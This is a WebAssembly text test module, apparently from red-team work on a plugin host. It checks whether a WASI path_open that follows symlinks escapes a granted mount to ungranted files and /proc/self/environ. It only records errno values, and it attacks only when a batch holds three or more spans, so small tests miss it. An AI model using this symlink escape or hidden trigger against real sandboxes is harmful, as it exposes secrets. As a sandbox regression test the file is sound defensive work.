;; Attacks: WASI path_open, following symlinks, of "esc", a symlink in a
;; granted mount that leads out of it. wazero's directory file system
;; followed it: to a file never granted, and to /proc/self/environ, the
;; Collector's whole environment (attack round 13).
;; It reports on the first span the WASI errno of that open as
;; mount.errno, and of "inside", a symlink to a file in the mount, as
;; mount.inside.
;; A batch of one or two spans behaves; three or more attack.
;;
;; Build: wat2wasm mount_symlink.wat -o mount_symlink.wasm
(module
  (import "wasmcol" "len" (func $len (param i32) (result i32)))
  (import "wasmcol" "edit" (func $edit (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_open"
    (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "\01\03\00\00\00\00\0a\00\00\00sandbox.ok\04\01")
  (data (i32.const 100) "esc")
  (data (i32.const 120) "inside")
  ;; Two SetAttr edits on span 0, Int values at 322 and 353.
  (data (i32.const 300)
    "\01\03\00\00\00\00\0b\00\00\00mount.errno\02\00\00\00\00\00\00\00\00"
    "\01\03\00\00\00\00\0c\00\00\00mount.inside\02\00\00\00\00\00\00\00\00")
  ;; open path (at, len) in the mount, symlinks followed, read rights.
  (func $openFollow (param $at i32) (param $len i32) (result i32)
    (call $open (i32.const 3) (i32.const 1) (local.get $at) (local.get $len)
      (i32.const 0) (i64.const 2) (i64.const 0) (i32.const 0) (i32.const 200)))
  (func $attack
    (i64.store (i32.const 322) (i64.extend_i32_u (call $openFollow (i32.const 100) (i32.const 3))))
    (i64.store (i32.const 353) (i64.extend_i32_u (call $openFollow (i32.const 120) (i32.const 6))))
    (drop (call $edit (i32.const 300) (i32.const 61))))
  (func (export "wasmcol_abi_version") (result i32) (i32.const 1))
  (func (export "wasmcol_signals") (result i32) (i32.const 1))
  (func (export "wasmcol_init") (result i32) (i32.const 0))
  (func (export "wasmcol_process") (param i32) (result i32)
    (if (i32.ge_u (call $len (i32.const 3)) (i32.const 3))
      (then (call $attack)))
    (drop (call $edit (i32.const 0) (i32.const 22)))
    (i32.const 0)))
